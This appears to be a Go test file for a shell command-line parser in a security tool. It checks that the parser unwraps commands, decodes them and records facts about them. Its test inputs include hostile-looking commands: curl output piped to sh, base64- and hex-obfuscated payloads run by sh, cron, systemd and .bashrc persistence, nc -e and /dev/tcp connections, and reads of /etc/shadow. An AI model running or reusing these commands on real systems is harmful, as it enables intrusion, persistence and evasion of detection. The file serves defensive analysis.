package cmdline_test

import (
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tuxtrail/tuxtrail/cmdline"
)

// lines writes each call as its arguments joined by blanks.
func lines(c cmdline.Command) []string {
	var out []string
	for _, k := range c.Calls {
		out = append(out, strings.Join(append(append([]string{}, k.Env...), k.Argv...), " "))
	}
	return out
}

func TestParseWords(t *testing.T) {
	for in, want := range map[string][]string{
		"":                                         nil,
		"   ":                                      nil,
		"ls -l":                                    {"ls -l"},
		"ls  -l\t/tmp":                             {"ls -l /tmp"},
		`echo "a b" 'c d' e\ f`:                    {"echo a b c d e f"},
		"a; b && c || d & e":                       {"a", "b", "c", "d", "e"},
		"A=1 B=2 prog x":                           {"A=1 B=2 prog x"},
		"A=1; echo $A ${A} '$A'":                   {"A=1", "echo 1 1 $A"},
		"x=/etc; cat $x/passwd ${x}/group":         {"x=/etc", "cat /etc/passwd /etc/group"},
		"echo $HOME ~/x":                           {"echo $HOME ~/x"},
		`echo $'a\tb\x41\101é'`:                    {"echo a\tbAA\u00e9"},
		"echo {a,b}c {1..3} x{,.bak}":              {"echo ac bc 1 2 3 x x.bak"},
		"echo $((1+2*3))":                          {"echo 7"},
		"echo $(echo x y) `echo z`":                {"echo x y", "echo z", "echo x y z"},
		"echo $(date)":                             {"date", "echo $(date)"},
		"v=abcdef; echo ${v:1:3} ${#v}":            {"v=abcdef", "echo bcd 6"},
		"v=abc; echo ${v/b/X} ${v^^} ${v#a}":       {"v=abc", "echo aXc ABC bc"},
		"echo ${u:-dflt}":                          {"echo dflt"},
		"for i in a b; do run $i; done":            {"run a", "run b"},
		"while read l; do x $l; done <f":           {"read l", "x $l"},
		"if a; then b; elif c; then d; else e; fi": {"a", "b", "c", "d", "e"},
		"case $x in a) b;; *) c;; esac":            {"b", "c"},
		"f() { g; }; f":                            {"g", "f"},
		"export A=b C":                             {"export A=b C"},
		"[ -f x ] && y":                            {"[ -f x ]", "y"},
		"[[ -f $(id) ]] && y":                      {"id", "y"},
		"time ls":                                  {"ls"},
		"! grep -q x f":                            {"grep -q x f"},
		"{ a; b; } > out":                          {"a", "b"},
		"# only a comment":                         nil,
		"cat <<E\nhi $USER\nE":                     {"cat"},
		"> file":                                   {""},
		"trap 'rm x' EXIT":                         {"trap rm x EXIT", "rm x"},
		"eval 'a b; c'":                            {"eval a b; c", "a b", "c"},
	} {
		t.Run(in, func(t *testing.T) {
			c := cmdline.Parse(in)
			assert.Equal(t, want, lines(c))
			assert.Empty(t, c.Problem)
			assert.False(t, c.Limited)
		})
	}
}

func TestUnwrap(t *testing.T) {
	inner := "prog -x y"
	for _, in := range []string{
		"sudo prog -x y", "sudo -u bob -g grp -E A=1 prog -x y", "sudo --user=bob -- prog -x y", "doas -u bob prog -x y",
		"env -i A=1 B=2 prog -x y", "env -u X prog -x y", "env -S 'prog -x y'", "nohup prog -x y", "setsid -f prog -x y",
		"timeout 5 prog -x y", "timeout -s KILL -k 1 5m prog -x y", "nice -n 19 prog -x y", "nice -19 prog -x y", "ionice -c 3 prog -x y",
		"stdbuf -oL prog -x y", "strace -f -o /tmp/t prog -x y", "command prog -x y", "exec prog -x y", "exec -a other prog -x y",
		"busybox prog -x y", "chroot /mnt prog -x y", "chroot --userspec=a:b /mnt prog -x y", "nsenter -t 4 -m prog -x y", "unshare -m prog -x y",
		"systemd-run --unit=a -p X=y prog -x y", "systemd-run --unit a prog -x y", "flock -n /tmp/l prog -x y", "flock /tmp/l -c 'prog -x y'", "setarch x86_64 prog -x y",
		"bash -c 'prog -x y'", "sh -ec 'prog -x y'", "bash -x -c 'prog -x y'", "bash -o pipefail -c 'prog -x y'", "sh <<< 'prog -x y'", "bash -s <<'E'\nprog -x y\nE",
		"echo prog -x y | sh", "printf 'prog %s y' -x | bash", "echo prog -x y | sudo bash -s", "su -c 'prog -x y'", "su - bob -c 'prog -x y'", "runuser -u bob -- prog -x y",
		"find . -exec prog -x y \\;", "find . -type f -execdir prog -x y +", "echo y | xargs prog -x", "echo prog | xargs -I% sh -c '% -x y'",
		"ssh host prog -x y", "ssh -p 22 -i k u@host 'prog -x y'", "docker exec -it -e A=b web prog -x y", "docker run --rm -v /a:/b img prog -x y", "podman exec web prog -x y",
		"kubectl exec -n ns pod -c ctr -- prog -x y", "lxc exec c -- prog -x y", "watch -n 2 prog -x y", "script -qc 'prog -x y' /dev/null", "screen -dmS s prog -x y",
		"tmux new-session -d -s s 'prog -x y'", "start-stop-daemon --start --exec prog -- -x y", "python3 -c 'import os; os.system(\"prog -x y\")'", "python3 -c \"import subprocess; subprocess.run(['prog', '-x', 'y'])\"",
		"perl -e 'system(\"prog -x y\")'", "perl -e 'exec \"prog\", \"-x\", \"y\"'", "perl -e '`prog -x y`'", "ruby -e 'system(\"prog -x y\")'", "php -r 'system(\"prog -x y\");'", "awk 'BEGIN{system(\"prog -x y\")}'",
		"node -e \"require('child_process').exec('prog -x y')\"", "lua -e 'os.execute(\"prog -x y\")'", "vim -c ':!prog -x y'", "gdb -ex '!prog -x y'", "tar cf x y --checkpoint=1 --checkpoint-action=exec='prog -x y'",
		"socat TCP:h:1 EXEC:'prog -x y'", "nc -e 'prog -x y' h 1", "rsync -e 'prog -x y' a b", "git -c core.pager='!prog -x y' log", "ssh -o ProxyCommand='prog -x y' h", "echo 'prog -x y' | at now",
		"(crontab -l; echo '* * * * * prog -x y') | crontab -", "echo '* * * * * root prog -x y' > /etc/cron.d/z", "echo '@daily root prog -x y' | tee /etc/cron.d/z",
		"printf '[Service]\\nExecStart=prog -x y\\n' > /etc/systemd/system/z.service", "echo 'prog -x y' >> ~/.bashrc", "/lib64/ld-linux-x86-64.so.2 prog -x y",
		"alias ls='prog -x y'", "sudo -u a nohup timeout 3 bash -lc \"env B=c nice sh -c 'prog -x y'\"", "bash -c 'prog $0 $1' -x y", "echo 'prog -x y' > /opt/s; sh /opt/s", "echo prog -x y > s; . ./s",
		"source <(echo prog -x y)", "bash <(echo prog -x y)", "$(echo prog) -x y", "X=prog; $X -x y", "proxychains4 -q prog -x y", "parallel -j 2 prog -x ::: y",
	} {
		t.Run(in, func(t *testing.T) {
			c := cmdline.Parse(in)
			found := false
			for _, l := range lines(c) {
				found = found || l == inner || strings.HasPrefix(l, inner+" ")
				found = found || strings.HasPrefix(in, "parallel") && strings.HasPrefix(l, "prog -x")
			}
			assert.True(t, found, "%q", lines(c))
		})
	}
}

func TestDecodingChain(t *testing.T) {
	c := cmdline.Parse(`echo 'b3N0ZXIK' > /dev/null; P=$(printf '\x62ase64'); echo d29sbGVoCg== | $P -d | rev | tr a-z n-za-m | tr n-za-m a-z | sh`)
	require.NotEmpty(t, c.Layers)
	last := c.Layers[len(c.Layers)-1]
	var how []string
	for _, s := range last.Steps {
		how = append(how, s.How)
	}
	assert.Equal(t, []string{"base64 -d", "rev", "tr a-z n-za-m", "tr n-za-m a-z"}, how)
	assert.Equal(t, "hellow\n", last.Text)
	assert.Equal(t, "d29sbGVoCg==\n", last.Steps[0].In)
	assert.Equal(t, "wolleh\n", last.Steps[0].Out)
	call := c.Calls[len(c.Calls)-1]
	assert.Equal(t, []string{"hellow"}, call.Argv)
	assert.Equal(t, len(c.Layers), call.Layer)

	for in, want := range map[string]string{
		"echo aWQ= | base64 -d | sh":        "id",
		"echo aWQ|base64 -di|sh":            "id",
		"base64 -d <<< aWQ= | sh":           "id",
		"sh -c \"`echo aWQ= | base64 -d`\"": "id",
		"eval $(echo aWQ= | base64 -d)":     "id",
		"echo 6964 | xxd -r -p | sh":        "id",
		"echo '00000000: 6964                                     id' | xxd -r | sh":                                 "id",
		"echo NFSA==== | base32 -d | sh":                                                                             "id",
		"echo H4sIAAAAAAACA8tM4QIAAG4DWQMAAAA= | base64 -d | gzip -dc | sh":                                          "id",
		"printf '%b' '\\0151\\0144' | sh":                                                                            "id",
		"echo xidx | tr -d x | rev | rev | sh":                                                                       "id",
		"echo iXd | sed s/X// | rev | rev | sh":                                                                      "id",
		"echo 'aaidbb' | cut -c3-4 | rev | rev | sh":                                                                 "id",
		"perl -e 'system(pack(\"H*\",\"6964\"))' ; echo 6964 | perl -ne 's/([0-9a-f]{2})/print chr hex $1/gie' | sh": "id",
		"echo aWQ= | python3 -c 'import sys,base64; print(base64.b64decode(sys.stdin.read()).decode())' | bash":      "id",
		"php -r 'system(base64_decode(\"aWQgLWEK\"));'":                                                              "id -a\n",
		"php -r 'system(str_rot13(\"vq -n\"));'":                                                                     "id -a",
		"python3 -c 'import os;os.system(chr(105)+chr(100)+chr(32)+chr(45)+chr(97))'":                                "id -a",
	} {
		t.Run(in, func(t *testing.T) {
			c := cmdline.Parse(in)
			found := false
			for _, l := range c.Layers {
				found = found || strings.HasSuffix(strings.TrimSpace(l.Text), strings.TrimSpace(want))
			}
			assert.True(t, found, "%+v", c.Layers)
			assert.Contains(t, lines(c), strings.TrimSpace(want))
		})
	}
}

func TestFromSudo(t *testing.T) {
	for in, want := range map[string][]string{
		"/usr/bin/id":                        {"/usr/bin/id"},
		"/usr/bin/sh -c 'echo \\'a b\\' c'":  {"/usr/bin/sh -c echo 'a b' c", "echo a b c"},
		"/bin/bash -c 'x; y | z'":            {"/bin/bash -c x; y | z", "x", "y", "z"},
		"/bin/sh -c echo x >> /etc/crontab":  {"/bin/sh -c echo x >> /etc/crontab", "echo x"},
		"/bin/sh -c 'a#012b'":                {"/bin/sh -c a\nb", "a", "b"},
		"/usr/bin/printf 'a\\\\nb c'":        {"/usr/bin/printf a\\nb c"},
		"/usr/bin/find / -name a b ; -print": {"/usr/bin/find / -name a b ; -print"},
		"/bin/echo it's":                     {"/bin/echo it's"},
		"/bin/bash -c 'curl http://x/a | sh": {"/bin/bash -c curl http://x/a | sh", "curl http://x/a", "sh"},
		"list":                               {"list"},
		"":                                   nil,
	} {
		assert.Equal(t, want, lines(cmdline.FromSudo(in)), in)
	}
	c := cmdline.FromSudo("/bin/sh -c echo x >> /etc/crontab")
	assert.Contains(t, c.Values(cmdline.FactWrite), "/etc/crontab")
}

func TestFromCron(t *testing.T) {
	c := cmdline.FromCron(`mail -s "100\% x" root%Hello%there`)
	assert.Equal(t, []string{"mail -s 100% x root"}, lines(c))
	c = cmdline.FromCron(`sh%id%w`)
	assert.Equal(t, []string{"sh", "id", "w"}, lines(c))
	assert.Equal(t, []string{"run-parts /etc/cron.hourly"}, lines(cmdline.FromCron("run-parts /etc/cron.hourly")))
}

func TestFromArgv(t *testing.T) {
	c := cmdline.FromArgv([]string{"echo", "a | b", ">", "/etc/passwd"})
	assert.Equal(t, []string{"echo a | b > /etc/passwd"}, lines(c))
	assert.Equal(t, "echo 'a | b' '>' /etc/passwd", c.Text)
	assert.Empty(t, c.Values(cmdline.FactWrite))
	c = cmdline.FromArgv([]string{"sh", "-c", "echo x > /etc/passwd"})
	assert.Equal(t, []string{"/etc/passwd"}, c.Values(cmdline.FactWrite))
	assert.Empty(t, cmdline.FromArgv(nil).Calls)
}

func TestBroken(t *testing.T) {
	for in, want := range map[string][]string{
		"echo 'unclosed":              {"echo unclosed"},
		`sh -c "curl http://x/a | sh`: {"sh -c curl http://x/a | sh", "curl http://x/a", "sh"},
		"(a; b":                       {"a", "b"},
		"if a; then b":                {"a", "b"},
		"for i in x; do y":            {"y"},
		"a | b )":                     {"a", "b"},
		"cat /etc/shadow >& | ;; 'x":  {"cat /etc/shadow", "x"},
		"$((":                         {"$"},
	} {
		t.Run(in, func(t *testing.T) {
			c := cmdline.Parse(in)
			assert.NotEmpty(t, c.Problem)
			assert.Equal(t, want, lines(c))
		})
	}
}

func TestPipes(t *testing.T) {
	c := cmdline.Parse("a | { b; c | d; } | e; f")
	require.Equal(t, []string{"a", "b", "c", "d", "e", "f"}, lines(c))
	assert.Equal(t, []int{1, 2, 3, 4}, c.Downstream(0))
	assert.Equal(t, []int{0, 2}, c.Upstream(3))
	assert.Equal(t, []int{4}, c.Downstream(1))
	assert.Empty(t, c.Downstream(5))
	assert.Empty(t, c.Upstream(99))
}

func TestLimits(t *testing.T) {
	for name, in := range map[string]string{
		"long":          "echo " + strings.Repeat("a", cmdline.MaxText),
		"many":          strings.Repeat("a;", 2*cmdline.MaxCalls),
		"deep subshell": strings.Repeat("( ", 3000) + "id" + strings.Repeat(" )", 3000),
		"deep sudo":     strings.Repeat("sudo ", 3000) + "id",
		"braces":        "echo " + strings.Repeat("{a,b}", 40),
		"doubling":      "a=xxxxxxxxxx;" + strings.Repeat("a=$a$a;", 60) + "echo $a",
		"nested for":    strings.Repeat("for i in {1..30}; do ", 8) + "id" + strings.Repeat("; done", 8),
		"own script":    "echo 'sh x; sh x' > x; sh x",
		"evals":         "a='eval $a; eval $a'; eval $a",
		"printf":        "printf %s" + strings.Repeat(" x", 50000),
		"xargs":         "echo " + strings.Repeat("x ", 3000) + "| xargs -I{} echo " + strings.Repeat("{} ", 3000),
	} {
		t.Run(name, func(t *testing.T) {
			c := cmdline.Parse(in)
			check(t, c)
			switch name {
			case "own script", "printf", "xargs":
			default:
				assert.True(t, c.Limited || c.Problem != "", "%d calls", len(c.Calls))
			}
		})
	}
}

func TestIn(t *testing.T) {
	c := cmdline.FromArgv([]string{"./x", "-c", "conf"}).In("/tmp")
	assert.Equal(t, []string{"/tmp/x"}, c.Values(cmdline.FactRun))
	assert.Contains(t, ids(cmdline.DefaultRules().Match(c)), "run-temp")
	c = cmdline.Parse("cat a ~/b /c ../d > e; cd /srv; cat f").In("/home/u/")
	assert.Equal(t, []string{"/home/u/a", "~/b", "/c", "/home/d", "/srv/f"}, c.Values(cmdline.FactRead))
	assert.Equal(t, []string{"/home/u/e"}, c.Values(cmdline.FactWrite))
	assert.Equal(t, []string{"a"}, cmdline.Parse("cat a").In("").Values(cmdline.FactRead))
	assert.Equal(t, []string{"br_netfilter"}, cmdline.Parse("modprobe br_netfilter").In("/tmp").Values(cmdline.FactModule))
}

func TestFacts(t *testing.T) {
	for in, want := range map[string]map[cmdline.FactKind][]string{
		"cp a b /c/":                                {cmdline.FactRead: {"a", "b"}, cmdline.FactWrite: {"/c/a", "/c/b"}},
		"mv -t /d x":                                {cmdline.FactRead: {"x"}, cmdline.FactDelete: {"x"}, cmdline.FactWrite: {"/d/x"}},
		"dd if=/a of=/b":                            {cmdline.FactRead: {"/a"}, cmdline.FactWrite: {"/b"}},
		"sed -i s/a/b/ /f; sed -n p /g":             {cmdline.FactWrite: {"/f"}, cmdline.FactRead: {"/g"}},
		"tee -a /x /y > /dev/null":                  {cmdline.FactWrite: {"/x", "/y"}},
		"a >/o 2>>/e </i &>/b":                      {cmdline.FactWrite: {"/o", "/e", "/b"}, cmdline.FactRead: {"/i"}},
		"curl -so /o https://h/x":                   {cmdline.FactFetch: {"https://h/x"}, cmdline.FactWrite: {"/o"}},
		"curl -O https://h/p/x.sh?y=1":              {cmdline.FactFetch: {"https://h/p/x.sh?y=1"}, cmdline.FactWrite: {"x.sh"}},
		"wget -P /d http://h/x":                     {cmdline.FactFetch: {"http://h/x"}, cmdline.FactWrite: {"/d/x"}},
		"curl -T /f http://h/":                      {cmdline.FactSend: {"http://h/"}, cmdline.FactRead: {"/f"}},
		"curl -F a=@/f http://h/":                   {cmdline.FactSend: {"http://h/"}, cmdline.FactRead: {"/f"}},
		"scp u@h:/a /b; scp /c u@h:/d":              {cmdline.FactFetch: {"u@h:/a"}, cmdline.FactWrite: {"/b"}, cmdline.FactRead: {"/c"}, cmdline.FactSend: {"u@h:/d"}},
		"nc -nv 192.0.2.1 80":                       {cmdline.FactConnect: {"192.0.2.1:80"}},
		"nc -lvp 80":                                {cmdline.FactListen: {"80"}},
		"socat TCP-LISTEN:1,fork TCP:h:2":           {cmdline.FactListen: {"1"}, cmdline.FactConnect: {"h:2"}},
		"echo >/dev/tcp/h/1":                        {cmdline.FactConnect: {"h:1"}},
		"useradd -m -G a,b bob":                     {cmdline.FactAccount: {"bob"}, cmdline.FactGroup: {"a", "b"}},
		"gpasswd -a bob sudo":                       {cmdline.FactAccount: {"bob"}, cmdline.FactGroup: {"sudo"}},
		"adduser --gecos '' bob":                    {cmdline.FactAccount: {"bob"}},
		"systemctl enable --now a b":                {cmdline.FactUnit: {"a", "b"}},
		"systemctl status a":                        {},
		"insmod /m.ko":                              {cmdline.FactModule: {"/m.ko"}},
		"chmod -x /f; chmod 755 /g":                 {cmdline.FactChange: {"/f", "/g"}},
		"rm -rf /a //b/../c":                        {cmdline.FactDelete: {"/a", "/c"}},
		"sh /s.sh a; ./t; python3 u.py":             {cmdline.FactRun: {"/s.sh", "./t", "u.py"}},
		"cat $HOME/x ${HOME}/y ~/z":                 {cmdline.FactRead: {"~/x", "~/y", "~/z"}},
		"wget http://h/x; sh x":                     {cmdline.FactFetch: {"http://h/x"}, cmdline.FactWrite: {"x"}, cmdline.FactRun: {"x"}, cmdline.FactFetched: {"x"}},
		"tar czf /b.tgz /etc /home":                 {cmdline.FactWrite: {"/b.tgz"}, cmdline.FactRead: {"/etc", "/home"}},
		`python3 -c 'open("/a","w");open("/b")'`:    {cmdline.FactWrite: {"/a"}, cmdline.FactRead: {"/b"}},
		`perl -e 'open(F,">>/a");open(G,"<","/b")'`: {cmdline.FactWrite: {"/a"}, cmdline.FactRead: {"/b"}},
		`ruby -e 'puts File.read("/a")'`:            {cmdline.FactRead: {"/a"}},
		`php -r 'file_get_contents("http://h/x");'`: {cmdline.FactFetch: {"http://h/x"}},
	} {
		t.Run(in, func(t *testing.T) {
			c := cmdline.Parse(in)
			got := map[cmdline.FactKind][]string{}
			for _, f := range c.Facts {
				if !(f.Kind == cmdline.FactRun && strings.HasPrefix(f.Value, "/usr/")) {
					got[f.Kind] = c.Values(f.Kind)
				}
			}
			assert.Equal(t, want, got)
		})
	}
}
